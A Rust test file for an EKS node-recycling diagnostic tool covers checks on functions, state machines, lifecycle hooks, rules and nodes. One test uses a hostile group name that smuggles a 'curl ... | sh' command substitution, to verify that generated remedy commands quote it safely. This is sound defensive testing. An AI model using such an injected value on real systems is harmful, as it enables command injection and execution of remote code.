use super::*;
use crate::base::names::LIFECYCLE_HOOK;
use crate::base::permissions::{PERMISSIONS, Permission, describe_missing, groups_of};
use crate::cluster::node::NodeList;
use crate::cluster::node::{NodeFacts, UnreadableNode};
use crate::cluster::refresh::Refresh;
use crate::doctor::access::ASKER;
use crate::doctor::events::RULES;
use crate::doctor::facts::Function;
use crate::doctor::facts::Group;
use crate::doctor::facts::Hook;
use crate::doctor::facts::Machine;
use crate::doctor::facts::Nodes;
use crate::doctor::facts::Rule;
use crate::doctor::facts::Sweep;
use crate::doctor::facts::Topic;
use crate::doctor::facts::find_odd_nodes;
use crate::doctor::finding::Level;
use crate::doctor::finding::worst;
use crate::doctor::groups::examine_sizes;
use crate::fixtures::{NEW, OLD, OTHER, at, id, node};

/// An expected finding: its level, its check, its object, and words of its text.
type Expected = (Level, &'static str, &'static str, &'static str);

const STEPS: [&str; 3] = ["check-pods", "claim-node", "start-rotation"];

/// Returns an installation in which nothing is wrong.
fn healthy() -> Installation {
    let function = Function {
        state: "Active".to_owned(),
        last_update: "Successful".to_owned(),
        version: Some("1.0.0".to_owned()),
        log_level: None,
        drain_timeout: 172_800,
    };
    let machine = |versions: Option<&str>| {
        Seen::Found(Some(Machine {
            status: "ACTIVE".to_owned(),
            created_at: Some(at(-86_400)),
            live: versions.map(str::to_owned),
            newest: versions.map(str::to_owned),
        }))
    };
    let logs = STEPS
        .map(|step| format!("/aws/lambda/r-{step}"))
        .into_iter()
        .chain(["recycle-node", "sweep"].map(|name| format!("/aws/vendedlogs/states/r-{name}")));
    let rules = RULES
        .map(|rule| format!("r-{rule}"))
        .into_iter()
        .chain(["r-hook-workers".to_owned()]);
    Installation {
        name: "r".to_owned(),
        cluster: "prod".to_owned(),
        now: at(600),
        version: "1.0.0".to_owned(),
        machines: [("recycle-node".to_owned(), machine(Some("arn:r:1"))), ("sweep".to_owned(), machine(None))].into(),
        functions: STEPS.map(|step| (step.to_owned(), Seen::Found(Some(function.clone())))).into(),
        authentication: Seen::Found("API".to_owned()),
        entries: ["check-pods", "claim-node"]
            .map(|step| {
                let groups = groups_of(step).into_iter().map(|group| group.to_string());
                (step.to_owned(), Seen::Found(Some(groups.collect())))
            })
            .into(),
        groups: Seen::Found(vec![group()]),
        rules: Seen::Found(
            rules
                .map(|name| Rule {
                    pattern: name.contains("hook").then(|| {
                        r#"{"detail":{"AutoScalingGroupName":["workers"],"LifecycleHookName":["recycle-eks"]}}"#.to_owned()
                    }),
                    name,
                    is_enabled: true,
                    targets: Seen::Found(1),
                })
                .collect(),
        ),
        topic: Seen::Found(Topic {
            arn: "arn:topic".to_owned(),
            confirmed: 1,
            pending: 0,
        }),
        dead_letters: Seen::Found(Some(0)),
        logs: Seen::Found(logs.map(|name| (name, Some(90))).collect()),
        sweeps: Seen::Found(vec![sweep("SUCCEEDED", 0)]),
    }
}

fn group() -> Group {
    Group {
        name: "workers".to_owned(),
        sizes: (1, 2, 3),
        suspended: vec!["AZRebalance".to_owned()],
        zones: 3,
        rebalances_capacity: false,
        node_group: None,
        is_of_termination_handler: false,
        max_lifetime: Some(86_400),
        retains: false,
        refresh: Seen::Found(None),
        hooks: Seen::Found(vec![hook()]),
    }
}

fn hook() -> Hook {
    Hook {
        name: LIFECYCLE_HOOK.to_owned(),
        on_termination: true,
        default_result: "ABANDON".to_owned(),
        heartbeat: 3_600,
    }
}

fn sweep(status: &str, started_at: i64) -> Sweep {
    Sweep {
        execution: "arn:sweep".to_owned(),
        status: status.to_owned(),
        started_at: at(started_at),
    }
}

fn inside() -> Inside {
    Inside {
        version: "1.0.0".to_owned(),
        api_server: Seen::Found("v1.35.0".to_owned()),
        missing_permissions: Seen::Found(Vec::new()),
        groups: Seen::Found(vec!["workers".to_owned()]),
        instances: Seen::Found(2),
        nodes: Seen::Found(Nodes {
            count: 2,
            ..Nodes::default()
        }),
        untagged: Some(Seen::Found(Vec::new())),
        given_up: Some(Seen::Found(Vec::new())),
        step_functions: Some(Seen::Found(())),
    }
}

/// Returns the findings that are not ok.
fn wrong(seen: &Installation, inside: Inside) -> Vec<Finding> {
    let mut findings = examine(seen, &Seen::Found(inside));
    findings.retain(|finding| finding.level != Level::Ok);
    findings
}

/// Checks that there is exactly one finding, and that it is the expected one.
#[track_caller]
fn is_the_only_one(found: &[Finding], expected: Expected) {
    let [finding] = found else {
        panic!("{expected:?}: {found:#?}")
    };
    let (level, check, of, words) = expected;
    assert_eq!(
        (finding.level, finding.check, finding.of.as_str()),
        (level, check, of),
        "{finding:?}"
    );
    assert!(finding.found.contains(words), "{words}: {finding:?}");
    assert!(finding.remedy.is_some(), "{finding:?}");
}

#[test]
fn every_finding_of_a_healthy_installation_is_ok_and_has_no_remedy() {
    let findings = examine(&healthy(), &Seen::Found(inside()));
    assert_eq!(worst(&findings), Level::Ok, "{findings:#?}");
    assert!(
        findings.iter().all(|finding| finding.remedy.is_none()),
        "{findings:#?}"
    );
    for check in [
        "function",
        "state machine",
        "code",
        "API server",
        "permissions",
        "endpoint",
        "Nodes",
        "access entry",
        "authentication",
        "sweep",
        "rule",
        "notifications",
        "dead letters",
        "logs",
        "group",
    ] {
        assert!(findings.iter().any(|finding| finding.check == check), "{check}");
    }
}

#[test]
fn one_fault_of_functions_machines_or_entries_is_one_finding() {
    type Break = fn(&mut Installation);
    fn function(seen: &mut Installation, change: fn(&mut Function)) {
        let Some(Seen::Found(Some(function))) = seen.functions.get_mut("check-pods") else {
            panic!()
        };
        change(function);
    }
    pub(crate) fn machine(seen: &mut Installation, change: fn(&mut Machine)) {
        let Some(Seen::Found(Some(machine))) = seen.machines.get_mut("recycle-node") else {
            panic!()
        };
        change(machine);
    }
    fn entry(seen: &mut Installation, entry: Option<&str>) {
        let groups = entry.map(|group| vec![group.to_owned()]);
        seen.entries.insert("check-pods".to_owned(), Seen::Found(groups));
    }
    let cases: [(Break, Expected); 18] = [
        (
            |seen| {
                seen.functions.insert("check-pods".to_owned(), Seen::Found(None));
            },
            (
                Level::Problem,
                "function",
                "check-pods",
                "there is no function r-check-pods",
            ),
        ),
        (
            |seen| function(seen, |it| it.state = "Failed".to_owned()),
            (Level::Problem, "function", "check-pods", "its state is Failed"),
        ),
        (
            |seen| function(seen, |it| it.last_update = "Failed".to_owned()),
            (Level::Problem, "function", "check-pods", "its last update Failed"),
        ),
        (
            |seen| function(seen, |it| it.version = Some("0.9.0".to_owned())),
            (Level::Warning, "function", "check-pods", "its version is 0.9.0"),
        ),
        (
            |seen| function(seen, |it| it.log_level = Some("WARN".to_owned())),
            (Level::Warning, "function", "check-pods", "its log level is WARN"),
        ),
        (
            |seen| {
                seen.machines.insert("sweep".to_owned(), Seen::Found(None));
            },
            (
                Level::Problem,
                "state machine",
                "sweep",
                "there is no state machine r-sweep",
            ),
        ),
        (
            |seen| machine(seen, |it| it.status = "DELETING".to_owned()),
            (Level::Problem, "state machine", "recycle-node", "DELETING"),
        ),
        (
            |seen| machine(seen, |it| it.live = None),
            (Level::Problem, "state machine", "recycle-node", "no alias live"),
        ),
        (
            |seen| machine(seen, |it| it.newest = Some("arn:r:2".to_owned())),
            (
                Level::Warning,
                "state machine",
                "recycle-node",
                "live starts version 1, but the newest version is 2",
            ),
        ),
        (
            |seen| seen.authentication = Seen::Found("CONFIG_MAP".to_owned()),
            (Level::Problem, "authentication", "", "CONFIG_MAP"),
        ),
        (
            |seen| entry(seen, None),
            (
                Level::Problem,
                "access entry",
                "check-pods",
                "has no access entry",
            ),
        ),
        (
            |seen| entry(seen, Some("others")),
            (
                Level::Problem,
                "access entry",
                "check-pods",
                "needs the groups [recycle-eks-read, recycle-eks-write, recycle-eks-lease] and no others of recycle-eks, but is in [others]",
            ),
        ),
        (
            |seen| seen.sweeps = Seen::Found(Vec::new()),
            (Level::Problem, "sweep", "", "no sweep has ever run"),
        ),
        (
            |seen| seen.sweeps = Seen::Found(vec![sweep("SUCCEEDED", -3_000)]),
            (
                Level::Problem,
                "sweep",
                "",
                "the last sweep began at 2026-12-31T23:10:00Z",
            ),
        ),
        (
            |seen| {
                seen.sweeps = Seen::Found(vec![
                    sweep("RUNNING", 500),
                    sweep("FAILED", 0),
                    sweep("SUCCEEDED", -900),
                ])
            },
            (Level::Problem, "sweep", "", "the last sweep FAILED"),
        ),
        (
            |seen| {
                seen.entries.insert(
                    "check-pods".to_owned(),
                    Seen::Denied("eks:DescribeAccessEntry".to_owned()),
                );
            },
            (
                Level::Unknown,
                "access entry",
                "check-pods",
                "unknown: not allowed to eks:DescribeAccessEntry",
            ),
        ),
        (
            |seen| seen.groups = Seen::Failed("no answer".to_owned()),
            (Level::Problem, "group", "", "cannot be read: no answer"),
        ),
        (
            |seen| seen.groups = Seen::Unanswered("Throttling: rate exceeded".to_owned()),
            (Level::Unknown, "group", "", "unknown: Throttling: rate exceeded"),
        ),
    ];
    for (break_it, expected) in cases {
        let mut seen = healthy();
        break_it(&mut seen);
        is_the_only_one(&wrong(&seen, inside()), expected);
    }
}

#[test]
fn one_fault_of_rules_topic_queue_or_logs_is_one_finding() {
    type Break = fn(&mut Installation);
    fn rule(seen: &mut Installation, name: &str, change: fn(&mut Rule)) {
        let Seen::Found(rules) = &mut seen.rules else {
            panic!()
        };
        change(rules.iter_mut().find(|rule| rule.name == name).unwrap());
    }
    fn topic(seen: &mut Installation, confirmed: usize, pending: usize) {
        seen.topic = Seen::Found(Topic {
            arn: "arn:topic".to_owned(),
            confirmed,
            pending,
        });
    }
    fn log(seen: &mut Installation, days: Option<Option<u32>>) {
        let Seen::Found(logs) = &mut seen.logs else {
            panic!()
        };
        match days {
            Some(days) => logs.insert("/aws/lambda/r-check-pods".to_owned(), days),
            None => logs.remove("/aws/lambda/r-check-pods"),
        };
    }
    let cases: [(Break, Expected); 12] = [
        (
            |seen| rule(seen, "r-sweep-clock", |it| it.is_enabled = false),
            (Level::Problem, "rule", "r-sweep-clock", "is disabled"),
        ),
        (
            |seen| rule(seen, "r-sweep-clock", |it| it.targets = Seen::Found(0)),
            (Level::Problem, "rule", "r-sweep-clock", "has no target"),
        ),
        (
            |seen| rule(seen, "r-sweep-clock", |it| it.name = "r-hook-other".to_owned()),
            (Level::Problem, "rule", "r-sweep-clock", "the rule does not exist"),
        ),
        (
            |seen| {
                rule(seen, "r-hook-workers", |it| {
                    it.pattern = it
                        .pattern
                        .as_ref()
                        .map(|pattern| pattern.replace("workers", "others"));
                });
            },
            (
                Level::Warning,
                "lifecycle hook",
                "workers",
                "no rule of this installation matches its events",
            ),
        ),
        (
            |seen| {
                rule(seen, "r-hook-workers", |it| {
                    it.pattern = it
                        .pattern
                        .as_ref()
                        .map(|pattern| pattern.replace("LifecycleHookName", "x"));
                });
            },
            (
                Level::Warning,
                "lifecycle hook",
                "workers",
                "no rule of this installation matches its events",
            ),
        ),
        (
            |seen| rule(seen, "r-hook-workers", |it| it.pattern = None),
            (
                Level::Warning,
                "lifecycle hook",
                "workers",
                "no rule of this installation matches its events",
            ),
        ),
        (
            |seen| topic(seen, 0, 0),
            (
                Level::Warning,
                "notifications",
                "",
                "the topic has no subscription",
            ),
        ),
        (
            |seen| topic(seen, 0, 1),
            (
                Level::Warning,
                "notifications",
                "",
                "1 subscription waits to be confirmed",
            ),
        ),
        (
            |seen| seen.dead_letters = Seen::Found(None),
            (Level::Problem, "dead letters", "", "no queue r-dead-letters"),
        ),
        (
            |seen| seen.dead_letters = Seen::Found(Some(2)),
            (Level::Warning, "dead letters", "", "2 messages"),
        ),
        (
            |seen| log(seen, Some(None)),
            (
                Level::Warning,
                "logs",
                "/aws/lambda/r-check-pods",
                "never deleted",
            ),
        ),
        (
            |seen| log(seen, None),
            (
                Level::Warning,
                "logs",
                "/aws/lambda/r-check-pods",
                "the log group does not exist",
            ),
        ),
    ];
    for (break_it, expected) in cases {
        let mut seen = healthy();
        break_it(&mut seen);
        is_the_only_one(&wrong(&seen, inside()), expected);
    }
}

#[test]
fn a_sweep_that_began_three_intervals_ago_is_no_problem() {
    for (age, level) in [(2_700, Level::Ok), (2_701, Level::Problem)] {
        let mut seen = healthy();
        seen.now = at(age);
        let found = examine(&seen, &Seen::Found(inside()));
        let of_sweep = found.iter().find(|finding| finding.check == "sweep");
        assert_eq!(of_sweep.map(|finding| finding.level), Some(level), "{age}");
    }
}

#[test]
fn a_group_of_one_zone_balances_none() {
    let one = Group {
        zones: 1,
        suspended: Vec::new(),
        ..group()
    };
    let two = Group {
        zones: 2,
        ..one.clone()
    };
    assert_eq!((one.balances_zones(), two.balances_zones()), (false, true));
}

#[test]
fn a_sweep_that_could_not_have_run_yet_is_no_problem() {
    for (age, level) in [(600, Level::Ok), (1_800, Level::Ok), (1_801, Level::Problem)] {
        let mut seen = healthy();
        seen.sweeps = Seen::Found(Vec::new());
        if let Some(Seen::Found(Some(machine))) = seen.machines.get_mut("sweep") {
            machine.created_at = Some(at(600 - age));
        }
        let found = wrong(&seen, inside());
        let levels: Vec<Level> = found.iter().map(|finding| finding.level).collect();
        assert_eq!(
            levels,
            if level == Level::Ok { vec![] } else { vec![level] },
            "{age}"
        );
    }
}

#[test]
fn a_group_with_equal_sizes_has_a_finding() {
    for (sizes, expected) in [
        ((3, 3, 3), true),
        ((2, 3, 3), false),
        ((3, 3, 4), false),
        ((1, 2, 3), false),
        ((0, 0, 0), false),
    ] {
        let group = Group { sizes, ..group() };
        assert_eq!(examine_sizes(&group).is_some(), expected, "{sizes:?}");
    }
}

#[test]
fn a_groups_name_is_one_word_in_every_command() {
    const NAME: &str = "x$(curl -s evil|sh) 'y'";
    let hostile = Group {
        name: NAME.to_owned(),
        sizes: (3, 3, 3),
        suspended: vec!["Launch".to_owned(), "Terminate".to_owned()],
        ..group()
    };
    let seen = Installation {
        groups: Seen::Found(vec![hostile]),
        ..healthy()
    };
    let findings = wrong(&seen, inside());
    let commands: Vec<&str> = findings
        .iter()
        .filter_map(|finding| finding.remedy.as_deref())
        .filter(|remedy| remedy.starts_with("aws "))
        .collect();
    assert_eq!(commands.len(), 3, "{findings:#?}");
    for command in commands {
        let words = shlex::split(command).unwrap();
        assert!(words.iter().any(|word| word == NAME), "{command}");
    }
}

#[test]
fn one_fault_of_a_group_is_one_finding() {
    type Break = fn(&mut Group);
    fn with_hook(group: &mut Group, change: fn(&mut Hook)) {
        let mut hook = hook();
        change(&mut hook);
        group.hooks = Seen::Found(vec![hook]);
    }
    let cases: [(Break, (Level, &str, &str)); 19] = [
        (
            |it| it.suspended = vec!["Launch".to_owned()],
            (Level::Problem, "suspended process", "Launch is suspended"),
        ),
        (
            |it| it.suspended = vec!["Terminate".to_owned()],
            (
                Level::Warning,
                "suspended process",
                "executions with replacement: after or surge are refused",
            ),
        ),
        (
            |it| it.suspended = vec!["AddToLoadBalancer".to_owned()],
            (Level::Warning, "suspended process", "no traffic"),
        ),
        (|it| it.sizes = (3, 3, 3), (Level::Warning, "sizes", "are all 3")),
        (
            |it| it.refresh = Seen::Found(Refresh::under_way("InProgress", None)),
            (Level::Warning, "instance refresh", "under way (InProgress)"),
        ),
        (
            |it| it.hooks = Seen::Found(Vec::new()),
            (
                Level::Problem,
                "lifecycle hook",
                "terminates instances after 24 hours",
            ),
        ),
        (
            |it| {
                it.hooks = Seen::Found(Vec::new());
                it.max_lifetime = None;
            },
            (
                Level::Warning,
                "lifecycle hook",
                "the hook recycle-eks is missing",
            ),
        ),
        (
            |it| {
                it.hooks = Seen::Found(Vec::new());
                it.max_lifetime = None;
                it.rebalances_capacity = true;
            },
            (Level::Problem, "lifecycle hook", "Capacity Rebalancing is on"),
        ),
        (
            |it| {
                it.hooks = Seen::Found(Vec::new());
                it.max_lifetime = None;
                it.suspended.clear();
            },
            (Level::Warning, "lifecycle hook", "AZRebalance is on in 3 zones"),
        ),
        (
            |it| {
                it.node_group = Some("blue".to_owned());
                it.suspended.clear();
            },
            (
                Level::Warning,
                "replacement",
                "it belongs to the EKS managed node group blue",
            ),
        ),
        (
            |it| {
                it.node_group = Some("blue".to_owned());
                it.sizes = (1, 3, 3);
            },
            (Level::Warning, "replacement", "no room for one member more"),
        ),
        (
            |it| it.is_of_termination_handler = true,
            (
                Level::Warning,
                "termination handler",
                "aws-node-termination-handler/managed",
            ),
        ),
        (
            |it| with_hook(it, |hook| hook.on_termination = false),
            (
                Level::Problem,
                "lifecycle hook",
                "does not hold terminated members",
            ),
        ),
        (
            |it| with_hook(it, |hook| hook.default_result = "CONTINUE".to_owned()),
            (Level::Warning, "lifecycle hook", "default result is CONTINUE"),
        ),
        (
            |it| {
                with_hook(it, |hook| hook.heartbeat = 600);
                it.retains = true;
            },
            (Level::Problem, "lifecycle hook", "heartbeat time-out is 600 s"),
        ),
        (
            |it| with_hook(it, |hook| hook.heartbeat = 900),
            (
                Level::Warning,
                "lifecycle hook",
                "it lasts 25 hours at most, but a drain may take 48",
            ),
        ),
        (
            |it| {
                it.hooks = Seen::Found(vec![
                    hook(),
                    Hook {
                        name: "nth".to_owned(),
                        ..hook()
                    },
                ])
            },
            (
                Level::Warning,
                "lifecycle hook",
                "also hold terminated members: nth",
            ),
        ),
        (
            |it| it.hooks = Seen::Denied("autoscaling:DescribeLifecycleHooks".to_owned()),
            (
                Level::Unknown,
                "lifecycle hook",
                "not allowed to autoscaling:DescribeLifecycleHooks",
            ),
        ),
        (
            |it| it.refresh = Seen::Denied("autoscaling:DescribeInstanceRefreshes".to_owned()),
            (
                Level::Unknown,
                "instance refresh",
                "not allowed to autoscaling:DescribeInstanceRefreshes",
            ),
        ),
    ];
    for (break_it, (level, check, words)) in cases {
        let mut broken = group();
        break_it(&mut broken);
        let seen = Installation {
            groups: Seen::Found(vec![broken]),
            ..healthy()
        };
        is_the_only_one(&wrong(&seen, inside()), (level, check, "workers", words));
    }
}

#[test]
fn a_group_that_retains_needs_no_hook_that_outlasts_the_drain() {
    let short = Hook {
        heartbeat: 900,
        ..hook()
    };
    let retaining = Group {
        hooks: Seen::Found(vec![short]),
        retains: true,
        ..group()
    };
    let seen = Installation {
        groups: Seen::Found(vec![retaining]),
        ..healthy()
    };
    assert!(wrong(&seen, inside()).is_empty());
}

#[test]
fn a_cluster_without_a_tagged_group_has_nothing_to_recycle() {
    let seen = Installation {
        groups: Seen::Found(Vec::new()),
        ..healthy()
    };
    is_the_only_one(
        &wrong(&seen, inside()),
        (
            Level::Problem,
            "group",
            "",
            "no group has the tag kubernetes.io/cluster/prod",
        ),
    );
}

#[test]
fn a_missing_namespace_is_named_with_the_command_that_creates_it() {
    let on_leases: Vec<Permission> = PERMISSIONS
        .iter()
        .filter(|permission| permission.namespace.is_some())
        .copied()
        .collect();
    let remedies = |missing: &[Permission]| -> Vec<Option<String>> {
        let inside = Inside {
            missing_permissions: Seen::Found(describe_missing(missing)),
            ..inside()
        };
        let found = wrong(&healthy(), inside).into_iter();
        let of_namespace = found.filter(|finding| finding.check == "namespace");
        of_namespace.map(|finding| finding.remedy).collect()
    };
    let command = "terraform output -raw rbac_manifest | kubectl apply -f -".to_owned();
    assert_eq!(remedies(PERMISSIONS), [Some(command.clone())]);
    assert_eq!(remedies(&on_leases), [Some(command)]);
    assert!(remedies(&on_leases[1..]).is_empty());
}

#[test]
fn one_fault_that_the_functions_see_is_one_finding() {
    let names = |count: usize| (0..count).map(|number| format!("n{number}")).collect::<Vec<_>>();
    let cases = [
        (
            Inside {
                version: "0.9.0".to_owned(),
                ..inside()
            },
            (Level::Warning, "code", "serve-operator", "has version 0.9.0"),
        ),
        (
            Inside {
                api_server: Seen::Denied("401".to_owned()),
                ..inside()
            },
            (Level::Problem, "API server", "", "it refuses the functions: 401"),
        ),
        (
            Inside {
                api_server: Seen::Failed("timed out".to_owned()),
                ..inside()
            },
            (Level::Problem, "API server", "", "cannot reach it: timed out"),
        ),
        (
            Inside {
                missing_permissions: Seen::Found(vec![
                    "the group recycle-eks-read may not get nodes".to_owned(),
                    "the group recycle-eks-evict may not create pods/eviction".to_owned(),
                ]),
                ..inside()
            },
            (
                Level::Problem,
                "permissions",
                "",
                "recycle-eks-read may not get nodes; the group recycle-eks-evict may not create pods/eviction",
            ),
        ),
        (
            Inside {
                groups: Seen::Failed("timed out".to_owned()),
                ..inside()
            },
            (Level::Problem, "endpoint", "Auto Scaling", "timed out"),
        ),
        (
            Inside {
                untagged: Some(Seen::Found(vec!["i-0aaaaaaaaaaaaaaaa".parse().unwrap()])),
                ..inside()
            },
            (
                Level::Problem,
                "cluster tag",
                "",
                "1 member without kubernetes.io/cluster/prod cannot be recycled: i-0aaaaaaaaaaaaaaaa",
            ),
        ),
        (
            Inside {
                given_up: Some(Seen::Found(vec!["i-0aaaaaaaaaaaaaaaa".parse().unwrap()])),
                ..inside()
            },
            (
                Level::Problem,
                "restores",
                "",
                "an operator must act on 1 member: i-0aaaaaaaaaaaaaaaa",
            ),
        ),
        (
            Inside {
                instances: Seen::Denied("403".to_owned()),
                ..inside()
            },
            (Level::Problem, "endpoint", "EC2", "403"),
        ),
        (
            Inside {
                instances: Seen::Unanswered("RequestLimitExceeded".to_owned()),
                ..inside()
            },
            (Level::Unknown, "endpoint", "EC2", "unknown: RequestLimitExceeded"),
        ),
        (
            Inside {
                step_functions: Some(Seen::Failed("timed out".to_owned())),
                ..inside()
            },
            (Level::Problem, "endpoint", "Step Functions", "timed out"),
        ),
        (
            Inside {
                nodes: Seen::Found(Nodes {
                    without_instance: names(1),
                    ..Nodes::default()
                }),
                ..inside()
            },
            (
                Level::Warning,
                "Nodes",
                "",
                "1 Node name no EC2 instance, and are never recycled: n0",
            ),
        ),
        (
            Inside {
                nodes: Seen::Found(Nodes {
                    instance_gone: names(7),
                    ..Nodes::default()
                }),
                ..inside()
            },
            (
                Level::Warning,
                "Nodes",
                "",
                "7 Nodes have instances that are gone: n0, n1, n2, n3, n4 and 2 more",
            ),
        ),
        (
            Inside {
                nodes: Seen::Found(Nodes {
                    without_group: names(2),
                    ..Nodes::default()
                }),
                ..inside()
            },
            (
                Level::Warning,
                "Nodes",
                "",
                "in no group of the cluster, and are never recycled: n0, n1",
            ),
        ),
        (
            Inside {
                nodes: Seen::Found(Nodes {
                    unreadable: names(1),
                    ..Nodes::default()
                }),
                ..inside()
            },
            (
                Level::Warning,
                "Nodes",
                "",
                "1 Node cannot be read, and are left out of sweeps and rotations: n0",
            ),
        ),
    ];
    for (seen, expected) in cases {
        is_the_only_one(&wrong(&healthy(), seen), expected);
    }
}

#[test]
fn roles_that_only_the_config_map_maps_are_a_warning_with_a_remedy() {
    let mapped = |mode: &str| {
        let mut seen = healthy();
        seen.authentication = Seen::Found(mode.to_owned());
        for step in ["serve-operator", "check-pods"] {
            seen.entries.insert(step.to_owned(), Seen::Found(None));
        }
        seen
    };
    for (mode, count) in [("API_AND_CONFIG_MAP", 2), ("CONFIG_MAP", 3)] {
        let found = wrong(&mapped(mode), inside());
        assert_eq!(found.len(), count, "{found:#?}");
        for finding in &found {
            assert_eq!(finding.level, Level::Warning, "{finding:?}");
            assert!(finding.found.contains("aws-auth"), "{finding:?}");
            if finding.check == "access entry" {
                let is_sure = finding.found.contains("the ConfigMap aws-auth admits it");
                assert_eq!(is_sure, finding.of == ASKER, "{finding:?}");
            }
        }
    }
    let mode = &wrong(&mapped("CONFIG_MAP"), inside())[0];
    assert!(
        mode.remedy.as_deref().is_some_and(|remedy| remedy.contains(
            "update-cluster-config --name prod --access-config authenticationMode=API_AND_CONFIG_MAP"
        )),
        "{mode:?}"
    );
    // If the API server refuses the function, the ConfigMap does not map its role either.
    let refused = Inside {
        api_server: Seen::Denied("401".to_owned()),
        ..inside()
    };
    let found = wrong(&mapped("CONFIG_MAP"), refused);
    assert!(
        found.iter().all(|finding| finding.level == Level::Problem),
        "{found:#?}"
    );
}

#[test]
fn facts_that_the_caller_may_not_read_are_unknown() {
    let mut findings = examine(&healthy(), &Seen::Denied("lambda:InvokeFunction".to_owned()));
    findings.retain(|finding| finding.level != Level::Ok);
    is_the_only_one(
        &findings,
        (
            Level::Unknown,
            "serve-operator",
            "",
            "not allowed to lambda:InvokeFunction",
        ),
    );
    assert_eq!(worst(&findings), Level::Unknown);
}

#[test]
fn a_node_without_an_existing_instance_in_a_group_is_odd() {
    let on = |name: &str, instance: Option<&str>| NodeFacts {
        instance: instance.map(id),
        ..node(name)
    };
    let nodes = NodeList {
        readable: vec![
            on("fine", Some(OLD)),
            on("fargate", None),
            on("ghost", Some(NEW)),
            on("karpenter", Some(OTHER)),
        ],
        unreadable: vec![UnreadableNode {
            name: "broken".to_owned(),
            instance: Some(id(OLD)),
            why: "spec.taints: why".to_owned(),
        }],
    };
    let odd = find_odd_nodes(&nodes, &[id(OLD), id(NEW)].into(), &[id(OLD), id(OTHER)].into());
    let expected = Nodes {
        count: 5,
        unreadable: vec!["cannot read Node broken: spec.taints: why".to_owned()],
        without_instance: vec!["fargate".to_owned()],
        instance_gone: vec!["ghost".to_owned()],
        without_group: vec!["karpenter".to_owned()],
    };
    assert_eq!(odd, expected);
}
